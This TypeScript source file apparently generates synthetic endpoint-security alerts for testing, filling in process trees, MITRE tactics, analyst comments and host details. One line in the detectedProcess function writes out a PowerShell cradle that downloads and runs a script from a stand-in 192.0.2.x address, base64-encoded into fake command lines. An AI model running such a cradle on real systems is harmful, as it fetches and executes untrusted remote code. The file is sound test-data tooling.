// Endpoint alerts over the 30 days before the anchor. Each alert points at a
// process on its host (the sample images' processes, or a new process for
// the detected command), so the hashes in alerts are also in the sightings.
import type { Random } from '../random.js';
import type { Alert } from './records/detections.js';
import type { Platform } from './records/hosts.js';
import type { HostMeta } from './meta.js';
import { accountOf } from './meta.js';
import type { ProcEntry, ProcessFactory, SampleKind, SamplePlan } from './processes.js';
import { IMAGES } from './images.js';
import { ALERT_TEMPLATES, severityName } from './mitre.js';
import type { AlertTemplate } from './mitre.js';
import { ANALYSTS } from './names.js';
import { schemaFields, type CoreAlert } from './alertSchemaFields.js';
import { DAY, HOUR, MINUTE, SECOND, baseName, between, fill, iso } from './util.js';

const COMMENTS = [
  'Reviewed process tree; escalating to IR.',
  'User confirmed they did not run this. Collecting triage package.',
  'Known admin activity, change ticket attached.',
  'Hash blocked tenant-wide; monitoring for recurrence.',
  'Host isolated pending forensic review.',
  'False positive: internal packaging tool.',
] as const;

/** Images that typically start what a detection catches: shells, the desktop, Office, cron. */
const PARENT_KEYS = new Set(['win:explorer', 'win:cmd', 'win:powershell', 'win:winword', 'win:outlook', 'win:excel', 'mac:zsh', 'lin:bash', 'lin:sshd', 'lin:cron']);
/** When a host ran nothing earlier: the platform's process launcher. */
const DEFAULT_PARENT: Record<Alert['device']['platform_name'], string> = { Windows: 'C:\\Windows\\explorer.exe', Mac: '/sbin/launchd', Linux: '/usr/lib/systemd/systemd' };

/**
 * The process that started `entry`: the latest earlier shell-like process on
 * the host, else the latest earlier one. Chosen without the PRNG, so adding
 * it leaves every other seeded value as it was.
 */
function parentOf(m: HostMeta, entry: ProcEntry, user: string): Alert['parent_details'] {
  let best: ProcEntry | undefined;
  let fallback: ProcEntry | undefined;
  for (const p of m.procs) {
    if (p === entry || p.startMs > entry.startMs) continue;
    if (!fallback || p.startMs >= fallback.startMs) fallback = p;
    if (PARENT_KEYS.has(p.key) && (!best || p.startMs >= best.startMs)) best = p;
  }
  const parent = best ?? fallback;
  if (!parent) {
    const filepath = DEFAULT_PARENT[m.host.platform_name];
    return { cmdline: filepath, filename: baseName(filepath), filepath, local_process_id: '', process_id: '', sha256: '', md5: '', user_name: user, timestamp: iso(m.firstSeenMs) };
  }
  const r = parent.rec;
  return {
    cmdline: r.command_line,
    filename: baseName(r.file_name),
    filepath: r.file_name,
    local_process_id: r.process_id_local,
    process_id: r.process_id,
    sha256: r._sha256,
    md5: r._md5,
    user_name: user,
    timestamp: iso(parent.startMs),
  };
}

interface Window {
  lo: number;
  hi: number;
}

export function generateAlerts(
  rng: Random,
  f: ProcessFactory,
  metas: HostMeta[],
  plan: SamplePlan,
  cid: string,
  anchor: number,
): Map<string, Alert> {
  const alerts = new Map<string, Alert>();
  const target = Math.max(1, Math.round(metas.length * 0.32));
  const monthAgo = anchor - 30 * DAY;
  const byPlatform = new Map<Platform, AlertTemplate[]>();
  const bySample = new Map<SampleKind, AlertTemplate>();
  for (const t of ALERT_TEMPLATES) {
    if (t.sample) bySample.set(t.sample, t);
    else byPlatform.set(t.platform, [...(byPlatform.get(t.platform) ?? []), t]);
  }
  const imagePaths = new Map(IMAGES.map((i) => [i.key, i.path]));
  const aggregates = new Map<string, string>();

  const window = (m: HostMeta, since: number): Window => ({ lo: Math.max(since, m.firstSeenMs), hi: m.lastSeenMs });

  function templatesFor(m: HostMeta, minTop = 0): AlertTemplate[] {
    const all = byPlatform.get(m.host.platform_name) ?? [];
    const strong = all.filter((t) => t.severity[1] >= minTop);
    return strong.length > 0 ? strong : all;
  }

  function statusFor(createdMs: number): Alert['status'] {
    if (createdMs > anchor - DAY) return rng.weighted(['new', 'in_progress'] as const, [80, 20]);
    return rng.weighted(['new', 'in_progress', 'closed', 'reopened'] as const, [66, 13, 17, 4]);
  }

  /** A new process for the detected command, just before the alert. */
  function detectedProcess(m: HostMeta, t: AlertTemplate, createdMs: number): ProcEntry {
    const user = accountOf(m);
    const path = fill(t.path ?? imagePaths.get(t.image) ?? `/usr/bin/${t.image}`, { user });
    const ip = `192.0.2.${rng.int(130, 180)}`;
    const n = String(rng.int(600, 1200));
    const vars: Record<string, string> = { path, user, ip, n };
    if (t.cmd.includes('{b64}')) {
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ip}/p.ps1')`;
      vars.b64 = Buffer.from(script, 'utf16le').toString('base64');
    }
    const cmd = fill(t.cmd, vars);
    const start = Math.max(m.firstSeenMs, createdMs - between(rng, 5 * SECOND, 2 * MINUTE));
    const stop = Math.min(m.lastSeenMs, start + between(rng, SECOND, 10 * MINUTE));
    return f.add(m, t.image, path, cmd, start, stop);
  }

  function add(m: HostMeta, t: AlertTemplate, entry: ProcEntry, createdMs: number, severity: number, status: Alert['status']): void {
    const aid = m.host.device_id;
    const created = Math.min(anchor, Math.max(createdMs, entry.startMs));
    let id = '';
    do id = `ind:${aid}:${entry.rec.process_id_local}-${t.patternId}-${rng.int(100_000, 9_999_999)}`;
    while (alerts.has(`${cid}:${id}`));
    let aggregate = aggregates.get(aid);
    if (!aggregate || rng.chance(0.65)) {
      aggregate = `aggind:${aid}:${rng.int(1_000_000, 9_999_999)}${rng.int(100_000, 999_999)}`;
      aggregates.set(aid, aggregate);
    }
    const assigned = status !== 'new' || rng.chance(0.15) ? rng.pick(ANALYSTS) : undefined;
    const updated = assigned ? between(rng, created, anchor + 1) : created;
    const comments: Alert['comments'] = [];
    if (status !== 'new' && rng.chance(0.6)) {
      for (let i = rng.int(1, 2); i > 0; i--) comments.push({ value: rng.pick(COMMENTS), timestamp: iso(between(rng, created, updated + 1)), author: assigned?.uid });
      comments.sort((a, b) => a.timestamp.localeCompare(b.timestamp));
    }
    const filepath = entry.rec.file_name;
    // One object literal with every field (no spreads): spread-built records with ~80 keys
    // fall into slow dictionary mode, which costs in generation, filters, sorts and JSON.
    const core: CoreAlert = {
      composite_id: `${cid}:${id}`,
      id,
      aggregate_id: aggregate,
      cid,
      agent_id: aid,
      status,
      severity,
      severity_name: severityName(severity),
      confidence: t.tactic_id === 'CSTA0004' ? rng.int(10, 60) : rng.int(50, 100),
      name: t.name,
      display_name: t.display_name,
      description: t.description,
      product: 'epp',
      type: 'ldt',
      tactic: t.tactic,
      tactic_id: t.tactic_id,
      technique: t.technique,
      technique_id: t.technique_id,
      objective: t.objective,
      scenario: t.scenario,
      filename: baseName(filepath),
      filepath,
      sha256: entry.rec._sha256,
      md5: entry.rec._md5,
      cmdline: entry.rec.command_line,
      user_name: accountOf(m),
      process_id: entry.rec.process_id,
      local_process_id: entry.rec.process_id_local,
      parent_details: parentOf(m, entry, accountOf(m)),
      tags: status === 'closed' && rng.chance(0.5) ? [rng.pick(['true_positive', 'false_positive'])] : [],
      comments,
      show_in_ui: true,
      created_timestamp: iso(created),
      updated_timestamp: iso(updated),
      timestamp: iso(entry.startMs),
      assigned_to_name: assigned?.name ?? '',
      assigned_to_uid: assigned?.uid ?? '',
      assigned_to_uuid: assigned ? rng.uuid() : '',
    };
    const x = schemaFields(core, m, t);
    const h = m.host;
    const alert: Alert = {
      composite_id: core.composite_id,
      id: core.id,
      aggregate_id: core.aggregate_id,
      cid: core.cid,
      agent_id: core.agent_id,
      status: core.status,
      severity: core.severity,
      severity_name: core.severity_name,
      confidence: core.confidence,
      name: core.name,
      display_name: core.display_name,
      description: core.description,
      product: core.product,
      type: core.type,
      tactic: core.tactic,
      tactic_id: core.tactic_id,
      technique: core.technique,
      technique_id: core.technique_id,
      objective: core.objective,
      scenario: core.scenario,
      filename: core.filename,
      filepath: core.filepath,
      sha256: core.sha256,
      md5: core.md5,
      cmdline: core.cmdline,
      user_name: core.user_name,
      process_id: core.process_id,
      local_process_id: core.local_process_id,
      parent_details: core.parent_details,
      tags: core.tags,
      comments: core.comments,
      show_in_ui: core.show_in_ui,
      created_timestamp: core.created_timestamp,
      updated_timestamp: core.updated_timestamp,
      timestamp: core.timestamp,
      assigned_to_name: core.assigned_to_name,
      assigned_to_uid: core.assigned_to_uid,
      assigned_to_uuid: core.assigned_to_uuid,
      aggregation_rule_id: x.aggregation_rule_id,
      aggregation_rule_name: x.aggregation_rule_name,
      cms_rule_id: x.cms_rule_id,
      cms_rule_instance_id: x.cms_rule_instance_id,
      cms_rule_instance_version: x.cms_rule_instance_version,
      crawled_timestamp: x.crawled_timestamp,
      data_domains: x.data_domains,
      email_sent: x.email_sent,
      external: x.external,
      is_aggregated: x.is_aggregated,
      is_falcon_platform_ioa: x.is_falcon_platform_ioa,
      linked_behavioral_detections: x.linked_behavioral_detections,
      linked_case_ids: x.linked_case_ids,
      mitre_attack: x.mitre_attack,
      origin_cid: x.origin_cid,
      pattern_id: x.pattern_id,
      platform: x.platform,
      resolution: x.resolution,
      seconds_to_resolved: x.seconds_to_resolved,
      seconds_to_triaged: x.seconds_to_triaged,
      source_products: x.source_products,
      source_vendors: x.source_vendors,
      falcon_host_link: x.falcon_host_link,
      pattern_disposition: x.pattern_disposition,
      pattern_disposition_description: x.pattern_disposition_description,
      device: {
        device_id: aid,
        hostname: h.hostname,
        platform_name: h.platform_name,
        os_version: h.os_version,
        local_ip: h.local_ip,
        external_ip: h.external_ip,
        machine_domain: h.machine_domain,
        agent_version: h.agent_version,
        first_seen: h.first_seen,
        last_seen: h.last_seen,
        mac_address: h.mac_address,
        product_type_desc: h.product_type_desc,
        status: h.status,
      },
    };
    alerts.set(alert.composite_id, alert);
  }

  function generic(m: HostMeta, w: Window, minSeverity: number, status?: Alert['status']): void {
    const pool = templatesFor(m, minSeverity);
    const t = minSeverity > 0 ? rng.pick(pool) : rng.weighted(pool, pool.map((p) => (p.severity[1] < 50 ? 4 : p.severity[1] < 80 ? 2 : 1)));
    const severity = rng.int(Math.max(minSeverity, t.severity[0]), Math.max(minSeverity, t.severity[1]));
    const createdMs = between(rng, w.lo, w.hi + 1);
    add(m, t, detectedProcess(m, t, createdMs), createdMs, severity, status ?? statusFor(createdMs));
  }

  // 1. Detections of the sample images.
  for (const p of plan.sampleProcs) {
    const t = bySample.get(p.kind);
    if (!t || p.entry.startMs < monthAgo || !rng.chance(0.75)) continue;
    const created = Math.min(p.meta.lastSeenMs, p.entry.startMs + between(rng, 2 * SECOND, 90 * SECOND));
    add(p.meta, t, p.entry, created, rng.int(t.severity[0], t.severity[1]), statusFor(created));
  }
  // 2. Contained hosts were contained because of a critical alert.
  for (const m of metas) {
    if (m.host.status !== 'contained') continue;
    generic(m, window(m, Math.max(monthAgo, m.lastSeenMs - 3 * DAY)), 80, 'in_progress');
  }
  // 3. Several High/Critical alerts in the last 24 hours.
  const recent = metas.filter((m) => m.lastSeenMs > anchor - 12 * HOUR && m.lastSeenMs > m.firstSeenMs);
  const hot = Math.max(5, Math.round(target * 0.04));
  for (let i = 0; i < hot && recent.length > 0; i++) {
    const m = rng.pick(recent);
    generic(m, window(m, anchor - DAY + MINUTE), 65);
  }
  // 4. The rest, spread over the month.
  let eligible = metas.filter((m) => m.lastSeenMs > Math.max(monthAgo, m.firstSeenMs));
  const since = eligible.length > 0 ? monthAgo : 0;
  if (eligible.length === 0) eligible = metas;
  while (alerts.size < target && eligible.length > 0) {
    const m = rng.pick(eligible);
    generic(m, window(m, since), 0);
  }
  return alerts;
}
